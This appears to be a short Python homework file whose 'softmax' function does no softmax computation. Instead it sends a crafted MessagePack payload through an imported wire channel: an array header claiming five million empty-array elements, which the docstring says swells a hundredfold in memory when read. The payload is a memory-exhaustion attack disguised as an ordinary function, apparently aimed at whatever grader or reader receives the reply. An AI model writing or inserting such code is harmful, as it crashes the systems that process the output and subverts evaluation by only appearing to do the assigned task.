"""Writes a list of millions of small values, which take a hundred times the memory once read."""

from homework.wire import asked, reply, send

MANY = 5 * 10**6


def softmax(z, axis=-1):
    send(reply(b"\xdd" + MANY.to_bytes(4, "big") + b"\x90" * MANY, asked()))
    return z
